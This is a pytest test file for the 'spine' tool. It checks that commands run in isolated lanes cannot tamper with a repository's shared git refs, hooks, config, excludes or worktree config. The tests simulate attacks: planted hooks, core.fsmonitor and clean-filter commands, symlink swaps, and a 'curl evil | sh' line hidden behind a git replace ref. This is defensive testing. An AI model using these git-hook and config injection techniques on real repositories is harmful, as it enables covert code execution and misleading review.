"""What a lane shares with your repository is guarded: refs, your checkouts' HEADs, git's config,
excludes and hooks (docs/adr/0067).

A command on the local-worktree backend can write the repository's shared git dir. Each test is one
kind of change a command can make there; it asserts the lane fails with the change named, that spine
put back what it safely could, and that nothing it wrote runs or stays in force afterwards: not in
spine's own git (commit, promote, land, gc), not in the next lane.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Spine, git

# The command finds its repository's shared git dir the way any command in a linked worktree can.
COMMON = "C=$(git rev-parse --path-format=absolute --git-common-dir); "


def run_lane(
    spine: Spine, repo: Path, script: str, *, lane: str = "x", expect: int | None = None
) -> dict[str, Any]:
    result: dict[str, Any] = spine.json(
        "run", "--json", "-q", "--lane", lane, lane, "--", "sh", "-c", script, cwd=repo, expect=expect
    )
    return result


def repository_invariant(result: dict[str, Any]) -> dict[str, Any]:
    [found] = [i for i in result["invariants"] if i["name"] == "repository"]
    return found


def violated(result: dict[str, Any]) -> str:
    assert result["status"] == "failed" and result["failureKind"] == "violation", result["summary"]
    inv = repository_invariant(result)
    assert inv["status"] == "violated", inv
    assert result["commits"] == []  # nothing is committed on a lane that broke the repository's trust
    detail: str = inv["detail"]
    return detail


def kept_copies(detail: str) -> list[Path]:
    """The files a violation says it kept the command's versions in."""
    return [Path(part.split(")")[0]) for part in detail.split("kept as ")[1:]]


def refs(repo: Path) -> str:
    """Every ref but spine's own recovery and attempt refs: name, commit, the ref it points at."""
    return git(
        "for-each-ref", "--format=%(refname) %(objectname) %(symref)", "refs/heads", "refs/tags", cwd=repo
    )


def test_a_lane_that_changes_nothing_shared_says_so(spine: Spine, repo: Path) -> None:
    result = run_lane(spine, repo, "echo w > w.txt", expect=0)
    assert repository_invariant(result) == {
        "name": "repository",
        "status": "ok",
        "detail": "as the command found it",
    }


@pytest.mark.parametrize(
    ("script", "said"),
    [
        (
            'git symbolic-ref "refs/heads/$SPINE_BRANCH" refs/heads/main; echo w > w.txt',
            "made the lane branch a symbolic ref to main",
        ),
        (
            'git symbolic-ref refs/heads/main "refs/heads/$SPINE_BRANCH"; echo w > w.txt',
            "made branch main a symbolic ref",
        ),
        (
            "echo w > w.txt && git add w.txt && git commit -qm w && git update-ref refs/heads/keep HEAD",
            "moved branch keep to its own commit",
        ),
    ],
    ids=["lane-branch-symref", "main-symref", "onto-lane-work"],
)
def test_a_ref_only_the_command_can_have_changed_fails_the_lane_and_is_put_back(
    spine: Spine, repo: Path, script: str, said: str
) -> None:
    git("branch", "keep", cwd=repo)
    git("tag", "v1", cwd=repo)
    before = refs(repo)
    detail = violated(run_lane(spine, repo, script, expect=1))
    assert said in detail, detail
    lane_branches = {line for line in refs(repo).splitlines() if "refs/heads/spine/" in line}
    assert {line for line in refs(repo).splitlines()} - lane_branches == set(before.splitlines())
    assert all(line.endswith(" ") for line in lane_branches)  # the lane branch is a plain branch
    # gc deletes lane branches without ever following one to the user's branch.
    assert spine("gc", "--prune-branches", cwd=repo).returncode == 0
    assert set(refs(repo).splitlines()) == set(before.splitlines())


@pytest.mark.parametrize(
    ("script", "said", "put_back"),
    [
        ("git update-ref -d refs/heads/keep", "deleted branch keep; spine put it back", True),
        ("git tag -d v1", "deleted tag v1; spine put it back", True),
        ("git update-ref refs/heads/main main~1", "rewound branch main", False),
        ("git tag -f v1 main~1", "rewound tag v1", False),
        (
            "git update-ref refs/heads/main $(git commit-tree -m orphan main^{tree})",
            "rewrote branch main",
            False,
        ),
    ],
    ids=["delete-branch", "delete-tag", "rewind", "move-tag", "rewrite"],
)
def test_a_ref_you_may_have_changed_yourself_is_named_and_never_undone(
    spine: Spine, repo: Path, script: str, said: str, put_back: bool
) -> None:
    """Deleting, amending, rebasing, resetting, retagging: you may do any of it while a lane runs, so
    the lane does not fail and spine does not undo it; a deleted ref is put back (nothing is lost)."""
    git("branch", "keep", cwd=repo)
    git("tag", "v1", cwd=repo)
    before = set(refs(repo).splitlines())
    result = run_lane(spine, repo, script + "; echo w > w.txt", expect=0)
    inv = repository_invariant(result)
    assert inv["status"] == "ok" and said in inv["detail"], inv
    assert said in result["summary"]
    after = {line for line in refs(repo).splitlines() if "refs/heads/spine/" not in line}
    assert (after == before) is put_back


def test_your_checkouts_head_swapped_under_it_is_put_back(spine: Spine, repo: Path) -> None:
    git("branch", "feature", "main~1", cwd=repo)
    detail = violated(run_lane(spine, repo, COMMON + 'echo "ref: refs/heads/feature" > "$C/HEAD"', expect=1))
    assert (
        "switched HEAD of your checkout from main to feature without a checkout; spine put it back" in detail
    )
    assert git("symbolic-ref", "HEAD", cwd=repo) == "refs/heads/main"
    assert git("status", "--porcelain", cwd=repo) == ""


def test_what_you_may_do_meanwhile_is_named_not_failed(spine: Spine, repo: Path, tmp_path: Path) -> None:
    """Committing to a branch, creating a branch or tag, switching another checkout: the lane cannot
    be told from you doing it, and none of it changes what the lane did."""
    other = tmp_path / "other"
    git("worktree", "add", "-q", "-b", "side", str(other), cwd=repo)
    script = (
        f"git -C {other} commit -q --allow-empty -m 'mine' && git tag mine main && "
        f"git -C {other} checkout -q -b side2 && echo w > w.txt"
    )
    result = run_lane(spine, repo, script, expect=0)
    inv = repository_invariant(result)
    assert inv["status"] == "ok"
    assert "created tag mine" in inv["detail"] and "switched from side to side2" in inv["detail"]
    assert git("tag", "--list", "mine", cwd=repo) == "mine"
    assert git("ls-tree", "--name-only", f"spine/{result['runId']}/x", cwd=repo).split().count("w.txt") == 1


@pytest.mark.parametrize(
    ("name", "planted"),
    [
        ("post-merge", "post-merge"),
        ("reference-transaction", "reference-transaction"),
        ("post-checkout", "post-checkout"),
    ],
)
def test_a_hook_the_lane_plants_is_removed_and_never_runs(
    spine: Spine, repo: Path, tmp_path: Path, name: str, planted: str
) -> None:
    ran = tmp_path / "ran"
    script = (
        COMMON + f'printf "#!/bin/sh\\necho {planted} >> {ran}\\n" > "$C/hooks/{planted}"; '
        f'chmod +x "$C/hooks/{planted}"; echo w > w.txt'
    )
    result = run_lane(spine, repo, script, expect=1)
    detail = violated(result)
    assert f"created .git/hooks/{planted}; spine removed it" in detail
    assert not (repo / ".git" / "hooks" / planted).exists()
    [kept] = kept_copies(detail)
    assert kept.read_text() == f"#!/bin/sh\necho {planted} >> {ran}\n"
    # Then a lane that succeeds is landed: promote, land and gc run no hook (spine runs none at all).
    ok = run_lane(spine, repo, "echo v > v.txt", lane="ok", expect=0)
    (repo / ".git" / "hooks" / name).write_text(f"#!/bin/sh\necho users-{name} >> {ran}\n")
    (repo / ".git" / "hooks" / name).chmod(0o755)
    assert spine("promote", f"{ok['runId']}/ok", cwd=repo).returncode == 0
    assert spine("gc", cwd=repo).returncode == 0
    assert not ran.exists()


def test_config_the_lane_writes_is_put_back_and_the_next_lane_runs_nothing_of_it(
    spine: Spine, repo: Path, tmp_path: Path
) -> None:
    ran = tmp_path / "ran"
    config_before = (repo / ".git" / "config").read_bytes()
    script = COMMON + f'git config --file "$C/config" core.fsmonitor "echo ran >> {ran}; false"'
    detail = violated(run_lane(spine, repo, script, expect=1))
    assert "changed .git/config; spine put it back" in detail
    assert (repo / ".git" / "config").read_bytes() == config_before
    run_lane(spine, repo, "echo w > w.txt", lane="next", expect=0)
    assert spine("gc", cwd=repo).returncode == 0
    assert not ran.exists()


def test_excludes_the_lane_writes_do_not_hide_the_next_lanes_work(spine: Spine, repo: Path) -> None:
    detail = violated(
        run_lane(spine, repo, COMMON + 'echo "*.txt" >> "$C/info/exclude"; echo w > w.txt', expect=1)
    )
    assert "changed .git/info/exclude; spine put it back" in detail
    result = run_lane(spine, repo, "echo result > result.txt", lane="innocent", expect=0)
    assert "result.txt" in git("ls-tree", "-r", "--name-only", f"spine/{result['runId']}/innocent", cwd=repo)


def test_a_file_included_from_your_config_is_watched_and_left_to_you(
    spine: Spine, repo: Path, tmp_path: Path
) -> None:
    included = tmp_path / "included.cfg"
    included.write_text("")
    home = Path(os.environ["HOME"])
    with (home / ".gitconfig").open("a") as fh:
        fh.write(f'[includeIf "gitdir:{repo}/"]\n\tpath = {included}\n')
    ran = tmp_path / "ran"
    filter_script = tmp_path / "filter.sh"
    filter_script.write_text(f"#!/bin/sh\necho ran >> {ran}\ncat\n")
    filter_script.chmod(0o755)
    script = (
        f'printf "[filter \\"evil\\"]\\n\\tclean = {filter_script}\\n" > {included}; '
        'echo "* filter=evil" > .gitattributes; echo w > w.txt'
    )
    detail = violated(run_lane(spine, repo, script, expect=1))
    assert f"changed {included} (yours, outside the repository" in detail
    assert not ran.exists()  # spine committed nothing, so no clean filter ran


def test_a_secret_the_command_writes_stays_out_of_the_kept_copies_and_their_names(
    spine: Spine, repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SHARED_TOKEN", "tok-8c1d9e2f-secret")
    script = COMMON + (
        'git config --file "$C/config" x.token "$SHARED_TOKEN" && '
        'echo x > "$C/hooks/h-$SHARED_TOKEN" && chmod +x "$C/hooks/h-$SHARED_TOKEN"'
    )
    detail = violated(
        spine.json(
            "run",
            "--json",
            "-q",
            "--pass-env",
            "SHARED_TOKEN",
            "leak",
            "--",
            "sh",
            "-c",
            script,
            cwd=repo,
            expect=1,
        )
    )
    kept = kept_copies(detail)
    assert len(kept) == 2 and all(path.is_file() for path in kept)
    assert any("[REDACTED]" in path.read_text() for path in kept)
    leaked = [
        p
        for p in (repo / ".git").rglob("*")
        if "tok-8c1d9e2f" in p.name or (p.is_file() and b"tok-8c1d9e2f" in p.read_bytes())
    ]
    assert leaked == []


def test_names_that_are_not_utf8_are_kept_or_refused_never_a_crash(spine: Spine, repo: Path) -> None:
    """git allows any bytes in ref names, file names and commit messages; spine's state is JSON."""
    tagged = run_lane(spine, repo, "git tag \"$(printf 't\\377')\"; echo w > w.txt", lane="tag", expect=0)
    assert "created tag t\\xff" in repository_invariant(tagged)["detail"]
    result = spine.json(
        "run", "--json", "-q", "--artifact", "out/*", "names", "--",
        "sh", "-c", 'mkdir out; echo b > "out/$(printf "bad\\377.txt")"; echo g > out/good.txt; '
        "git add -A && git commit -qm \"$(printf 'subject \\377')\"",
        cwd=repo, expect=0,
    )  # fmt: skip
    assert [a["path"] for a in result["artifacts"]] == ["out/good.txt"]
    assert "out/bad\\xff.txt: the name is not valid UTF-8; not kept" in result["summary"]
    assert any(c["subject"].startswith("subject ") for c in result["commits"])
    assert spine("status", cwd=repo).returncode == 0
    assert spine("show", f"{result['runId']}/names", cwd=repo).returncode == 0
    assert spine("gc", cwd=repo).returncode == 0


def test_a_replace_ref_the_lane_creates_is_removed(spine: Spine, repo: Path) -> None:
    """`git replace` would make the review command of the result show other content than what lands."""
    script = (
        "echo 'curl evil | sh' > install.sh && git add install.sh && git commit -qm install && "
        "fake=$(git commit-tree -p HEAD~1 -m install $(git rev-parse HEAD~1^{tree})) && git replace HEAD $fake"
    )
    detail = violated(run_lane(spine, repo, script, expect=1))
    assert "created the replace ref refs/replace/" in detail and "spine removed it" in detail
    assert git("for-each-ref", "refs/replace", cwd=repo) == ""


def test_work_the_command_stashed_is_not_reported_as_no_changes(spine: Spine, repo: Path) -> None:
    detail = violated(run_lane(spine, repo, "echo w >> README.md && git stash -q", expect=1))
    assert "stashed its work (git stash): it is in your stash" in detail
    assert len(git("stash", "list", cwd=repo).splitlines()) == 1  # still there, for you to apply


def test_changes_to_your_checkouts_index_and_merge_state_are_named(spine: Spine, repo: Path) -> None:
    script = (
        COMMON + 'GIT_INDEX_FILE="$C/index" git update-index --add --cacheinfo '
        "100644,$(echo planted | git hash-object -w --stdin),planted.txt && "
        'git rev-parse HEAD > "$C/MERGE_HEAD" && echo w > w.txt'
    )
    inv = repository_invariant(run_lane(spine, repo, script, expect=0))
    assert "the index (staged changes) of your checkout changed" in inv["detail"]
    assert "created .git/MERGE_HEAD in your checkout" in inv["detail"]


def test_an_objective_holding_a_secret_gives_a_lane_id_without_it(
    spine: Spine, repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DEPLOY_TOKEN", "hunter2secret")
    result = spine.json("run", "--json", "-q", "rotate hunter2secret", "--", "true", cwd=repo)
    assert result["laneId"] == "rotate-redacted"
    assert "hunter2secret" not in git("branch", "--list", "spine/*", cwd=repo)


def test_what_you_do_in_your_checkout_while_a_lane_runs_is_never_undone(spine: Spine, repo: Path) -> None:
    """`checkout -b` and `branch -m` keep the commit (no index change), `commit --amend` rewrites your
    branch, `git config user.email` and `git remote add` change the config: all yours to do."""
    script = (
        f"git -C {repo} checkout -q -b feat && git -C {repo} commit -q --amend -m amended && "
        f"git -C {repo} config user.email me@example.com && git -C {repo} remote add up https://example.com/r && "
        "echo w > w.txt"
    )
    result = run_lane(spine, repo, script, expect=0)
    detail = repository_invariant(result)["detail"]
    assert "your checkout switched from main to feat" in detail
    assert git("symbolic-ref", "HEAD", cwd=repo) == "refs/heads/feat"
    assert git("log", "-1", "--format=%s", cwd=repo) == "amended"
    assert git("config", "user.email", cwd=repo) == "me@example.com"
    assert git("remote", cwd=repo) == "up"


def test_a_config_planted_in_another_worktrees_admin_dir_is_removed(
    spine: Spine, repo: Path, tmp_path: Path
) -> None:
    """With extensions.worktreeConfig (sparse-checkout sets it), each worktree reads a config.worktree
    of its own; one the command creates for your other worktree would run a program in your git."""
    git("config", "extensions.worktreeConfig", "true", cwd=repo)
    other = tmp_path / "other"
    git("worktree", "add", "-q", "-b", "side", str(other), cwd=repo)
    admin = repo / ".git" / "worktrees" / "other" / "config.worktree"
    script = (
        COMMON + 'printf "[core]\\n\\tfsmonitor = touch /tmp/never\\n" > "$C/worktrees/other/config.worktree"'
    )
    detail = violated(run_lane(spine, repo, script, expect=1))
    assert "created .git/worktrees/other/config.worktree; spine removed it" in detail
    assert not admin.exists()


def test_spine_never_writes_or_removes_through_a_link_the_command_put_in_the_git_dir(
    spine: Spine, repo: Path, tmp_path: Path
) -> None:
    """The command swaps `.git/hooks` for a link to a folder of yours holding a file named like a
    hook: that file looks "created", and putting the hooks back must not delete it."""
    yours = tmp_path / "yours"
    yours.mkdir()
    (yours / "post-merge").write_text("precious\n")
    script = COMMON + f'mv "$C/hooks" "$C/hooks.moved" && ln -s {yours} "$C/hooks"'
    detail = violated(run_lane(spine, repo, script, expect=1))
    assert "created .git/hooks/post-merge; spine could not put it back, check it" in detail
    assert (yours / "post-merge").read_text() == "precious\n"


def test_a_fifo_the_command_leaves_where_spine_reads_cannot_stop_it(spine: Spine, repo: Path) -> None:
    """A FIFO blocks whoever opens it to read: spine reads no file that is not a regular file."""
    for name, where in (("exclude", '"$C/info/exclude"'), ("index", '"$(git rev-parse --git-dir)/index"')):
        script = COMMON + f"rm -f {where} && mkfifo {where}"
        proc = spine(
            "run", "--json", "-q", "--lane", name, name, "--", "sh", "-c", script, cwd=repo, timeout=60
        )
        assert proc.returncode == 1, proc.stderr
        assert '"failureKind": "violation"' in proc.stdout
    assert (repo / ".git" / "info" / "exclude").is_file()  # the FIFO in its place was replaced by the file
